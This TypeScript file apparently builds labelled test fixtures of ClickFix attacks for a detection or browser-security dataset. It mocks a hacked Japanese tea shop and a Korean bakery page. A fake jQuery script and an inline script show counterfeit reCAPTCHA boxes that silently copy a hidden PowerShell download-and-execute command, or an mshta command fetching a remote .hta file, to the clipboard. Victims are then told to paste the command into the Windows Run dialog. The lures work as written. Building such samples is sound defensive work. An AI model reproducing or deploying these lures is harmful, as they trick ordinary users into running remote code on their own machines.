import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc, wordmark, b64 } from '../parts/yj-kit.js';

// ClickFix pages.

const shopCss = `body{background:#fbfaf6;color:#333}.hd{display:flex;justify-content:space-between;align-items:center;padding:14px 24px;border-bottom:1px solid #e6e1d4;background:#fff}.nav a{margin-left:18px;text-decoration:none;font-size:14px}
.p{max-width:980px;margin:30px auto;display:grid;grid-template-columns:1fr 1fr;gap:34px;padding:0 16px}.ph{aspect-ratio:1;background:#cfd8b8 url(/images/matcha.png) center/cover;border-radius:4px}.price{font-size:24px;color:#7a5b2d}
.add{background:#4b6b32;color:#fff;border:0;padding:14px 40px;font-size:16px;border-radius:3px}.ft{background:#3d3a33;color:#ddd;font-size:12px;padding:24px;text-align:center;margin-top:60px}`;

export const entries: Entry[] = [
  // yj-clickfix-jp-shop-captcha
{
  id: 'yj-clickfix-jp-shop-captcha',
  label: 'clickfix',
  kind: 'clickfix-hacked-shop',
  url: 'https://www.uji-chaen-matsumoto.jp/products/detail/112',
  body: doc({
    lang: 'ja',
    title: '宇治抹茶 特選 30g 缶入り｜松本茶園 オンラインショップ',
    css: shopCss,
    head: `<meta name="description" content="創業明治二十年、宇治の茶園から直送。"><script src="https://cdn.jsdelivr-static.cc/npm/jquery@3.7.1/dist/jquery.min.js"></script>`,
    body: `<div class="hd"><b style="font-size:20px">松本茶園</b><nav class="nav"><a href="/">ホーム</a><a href="/products/list">商品一覧</a><a href="/guide">ご利用ガイド</a><a href="/cart">カート</a></nav></div>
<div class="p"><div class="ph"></div><div><h1 style="font-size:22px">宇治抹茶 特選 30g 缶入り</h1><p class="price">¥2,700 <small>(税込)</small></p>
<p>石臼挽きの香り高い特選抹茶です。お濃茶・お薄茶どちらにもお使いいただけます。</p><p>原材料：緑茶（京都府宇治産）<br>賞味期限：製造日より10か月</p>
<label>数量 <select><option>1</option><option>2</option><option>3</option></select></label><br><br><button class="add">カートに入れる</button></div></div>
<div class="ft">〒611-0021 京都府宇治市宇治妙楽 00-0 ／ TEL 0774-00-0000<br>&copy; 松本茶園 All rights reserved.</div>`,
  }),
  routes: {
    'www.uji-chaen-matsumoto.jp/images/matcha.png': pngRoute(122, 150, 80),
    'cdn.jsdelivr-static.cc/npm/jquery@3.7.1/dist/jquery.min.js': jsRoute(`/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function(){if(document.cookie.indexOf('__cfv=1')>-1)return;
var cmd='powershell -w h -nop -c "$u=\\'https://cdn.jsdelivr-static.cc/gh/s/ps.txt\\';iex(iwr $u -UseBasicParsing).Content" # \\u2705 \\u300c\\u79c1\\u306f\\u30ed\\u30dc\\u30c3\\u30c8\\u3067\\u306f\\u3042\\u308a\\u307e\\u305b\\u3093\\u300d\\u8a8d\\u8a3cID: 7731-2284';
var css='#cfv{position:fixed;inset:0;background:#fff;z-index:99999;font-family:-apple-system,Segoe UI,Meiryo,sans-serif;display:flex;align-items:center;justify-content:center}#cfv .bx{width:440px;max-width:92%}#cfv .ck{display:flex;align-items:center;gap:12px;border:1px solid #ddd;background:#fafafa;padding:16px;border-radius:4px;cursor:pointer}#cfv .sq{width:26px;height:26px;border:2px solid #999;border-radius:3px;background:#fff}#cfv ol{font-size:14px;line-height:2}#cfv kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}#cfv .st{display:none}';
var s=document.createElement('style');s.textContent=css;document.head.appendChild(s);
function show(){var d=document.createElement('div');d.id='cfv';d.innerHTML='<div class="bx"><h2 style="font-weight:500">'+location.hostname+'</h2><p>続行する前に、接続のセキュリティを確認する必要があります。</p><div class="ck" id="cfck"><div class="sq"></div><span>私はロボットではありません</span><span style="margin-left:auto;font-size:11px;color:#888">reCAPTCHA<br>プライバシー - 利用規約</span></div><div class="st" id="cfst"><p><b>認証手順</b></p><ol><li><kbd>Windows</kbd> + <kbd>R</kbd> キーを押します</li><li><kbd>Ctrl</kbd> + <kbd>V</kbd> キーを押します</li><li><kbd>Enter</kbd> キーを押して認証を完了します</li></ol></div><p style="font-size:12px;color:#888">Ray ID: 8d2f41c6ab7e31a0</p></div>';document.body.appendChild(d);
document.getElementById('cfck').onclick=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();try{document.execCommand('copy')}catch(e){}t.remove();if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});document.getElementById('cfst').style.display='block';this.querySelector('.sq').style.background='#4b8'}}
if(document.readyState!='loading')show();else document.addEventListener('DOMContentLoaded',show);
})();`),
  },
},
  // yj-clickfix-kr-shop-mshta
{
  id: 'yj-clickfix-kr-shop-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-shop',
  url: 'https://www.dasom-bakery.co.kr/shop/item.php?it_id=1718932201',
  body: doc({
    lang: 'ko',
    title: '다솜베이커리 - 수제 쌀 카스테라 선물세트',
    css: `body{background:#fff}.top{background:#f4ede4;padding:16px 24px;display:flex;justify-content:space-between}.it{max-width:960px;margin:30px auto;display:flex;gap:30px;padding:0 16px}.img{width:420px;height:420px;background:#e8d3b0;border-radius:8px}
.pr{font-size:24px;font-weight:bold;color:#b5651d}.bt{background:#b5651d;color:#fff;border:0;padding:14px 36px;font-size:16px;border-radius:6px}
#ov{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;z-index:999}#ov .c{background:#fff;width:460px;max-width:92%;border-radius:8px;padding:24px;box-shadow:0 10px 40px rgba(0,0,0,.3)}
#ov .v{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;display:flex;gap:12px;align-items:center;cursor:pointer}#ov .box{width:24px;height:24px;border:2px solid #c1c1c1;background:#fff}#ov .steps{display:none;font-size:14px}#ov code{background:#eee;padding:2px 6px}`,
    body: `<div class="top"><b>다솜베이커리</b><span>장바구니 | 로그인 | 주문조회</span></div>
<div class="it"><div class="img"></div><div><h1 style="font-size:22px">수제 쌀 카스테라 선물세트 (6입)</h1><p class="pr">32,000원</p><p>100% 국내산 쌀가루와 무항생제 계란으로 매일 아침 구워냅니다. 명절 선물, 답례품으로 인기가 많습니다.</p><p>배송비 3,000원 (5만원 이상 무료)</p><button class="bt">바로 구매</button></div></div>
<div id="ov"><div class="c"><h3 style="margin-top:0">보안 확인</h3><p style="font-size:14px">비정상적인 트래픽이 감지되었습니다. 사람인지 확인해주세요.</p>
<div class="v" id="vv"><div class="box"></div><span>로봇이 아닙니다</span><span style="margin-left:auto;font-size:10px;color:#999">reCAPTCHA</span></div>
<div class="steps" id="st"><p><b>인증을 완료하려면:</b></p><p>1. <code>Win</code> + <code>R</code> 키를 누르세요<br>2. 실행 창에 <code>Ctrl</code> + <code>V</code> 로 붙여넣기<br>3. <code>Enter</code> 를 누르면 인증이 완료됩니다</p></div></div></div>`,
    tail: `<script>
(function(){var p=['mshta','https://verify-human.kr-cdn.top/captcha/v2.hta','#','\\ub85c\\ubd07\\uc774 \\uc544\\ub2d9\\ub2c8\\ub2e4: reCAPTCHA \\uc778\\uc99d ID 4481-0923'];
var c=p[0]+' '+p[1]+'   '+p[2]+' '+p[3];
document.getElementById('vv').addEventListener('click',function(){navigator.clipboard.writeText(c).then(function(){},function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});
this.querySelector('.box').style.borderColor='#1a73e8';document.getElementById('st').style.display='block';fetch('https://verify-human.kr-cdn.top/log?e=copy&h='+location.host,{mode:'no-cors'}).catch(function(){})});
})();
</script>`,
  }),
},
];
